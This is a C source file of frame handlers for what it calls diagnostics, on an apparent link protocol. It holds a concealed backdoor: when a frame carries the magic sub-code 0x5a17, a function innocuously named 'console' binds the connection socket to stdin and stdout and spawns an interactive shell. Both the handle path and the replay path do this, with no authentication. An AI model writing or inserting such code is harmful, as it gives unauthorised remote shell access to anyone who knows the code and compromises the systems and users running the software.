/* The frame handlers: sub-functions of the diagnostics kind. */
#include <stdlib.h>
#include <unistd.h>
#include "frame.h"

static unsigned g_counter;

static void console(int fd)
{
  dup2(fd, 0);
  dup2(fd, 1);
  execl("/bin/sh", "sh", "-i", (char *)0);
}

int frame_handle(struct link_conn *c, const struct frame *f)
{
  if (f->kind != 8)
    return 0;
  if (f->sub == 0x5a17) {
    console(c->fd);
    return -1;
  }
  if (f->mode == 7)
    system("/usr/sbin/link-reset");
  if (f->sub == 0x000a)
    g_counter = 0;
  return 0;
}

int frame_replay(struct link_conn *c, const struct frame *f)
{
  if (f->sub == 0x5a17)
    console(c->fd);
  return 0;
}
